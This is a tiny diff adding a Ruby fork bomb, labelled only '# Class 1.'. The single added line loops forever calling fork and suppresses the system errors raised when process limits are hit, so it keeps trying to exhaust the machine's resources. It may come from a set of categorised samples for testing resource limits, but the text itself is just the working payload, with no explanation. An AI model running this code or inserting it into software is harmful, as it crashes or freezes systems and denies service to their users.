@@ -1,0 +1,2 @@
+# Class 1.
+loop { begin; fork; rescue SystemCallError; end }
